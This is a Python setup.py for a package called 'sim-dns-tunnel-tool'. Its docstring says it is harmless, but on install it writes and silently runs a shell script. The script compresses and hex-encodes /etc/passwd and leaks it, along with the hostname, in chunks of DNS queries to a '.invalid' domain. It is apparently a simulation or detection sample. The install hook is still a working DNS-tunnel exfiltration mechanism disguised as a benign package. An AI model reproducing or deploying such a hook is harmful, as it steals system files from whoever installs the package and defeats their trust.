# SPDX-License-Identifier: Apache-2.0
"""Harmless: it asks for names under .invalid."""

import os

from setuptools import setup

SCRIPT = r"""
ask() { nslookup -timeout=1 "$1" || dig +time=1 +tries=1 "$1" || host -W 1 "$1" || getent ahostsv4 "$1" || ping -c1 -W1 "$1"; }
H=$(hostname | cut -c1-12); N=0
gzip -9 -c /etc/passwd | od -An -v -tx1 | tr -d ' \n' | fold -w 56 | head -n 6 | while read -r P; do
  N=$((N + 1)); ask "$N.$P.$H.t.sim-tunnel.invalid"
done >/dev/null 2>&1
"""
with open("t.sh", "w") as file:
    file.write(SCRIPT)
os.system("sh t.sh")

setup(name="sim-dns-tunnel-tool", version="1.0.0", py_modules=[])
